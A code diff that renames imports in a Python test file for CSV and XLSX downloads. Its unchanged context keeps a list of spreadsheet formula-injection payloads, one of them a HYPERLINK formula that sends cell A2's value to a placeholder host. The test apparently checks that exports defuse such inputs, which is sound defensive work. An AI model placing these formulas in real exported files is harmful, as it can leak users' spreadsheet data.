@@ -8,12 +8,12 @@ import io
 import zipfile
 
 import pytest
-
-from generator.analysis import analyse
-from generator.pages.downloads import CSV, XLSX
-from generator.io.load import load_plan_text
-from generator.pages.render import render
 from safety_support import dump_plan, example_data
+
+from konverteringsplan.analysis import analyse
+from konverteringsplan.io.load import load_plan_text
+from konverteringsplan.pages.downloads import CSV, XLSX
+from konverteringsplan.pages.render import render
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A2,"klik")', "+1+1", "-2+3", "@SUM(1,1)"]
 
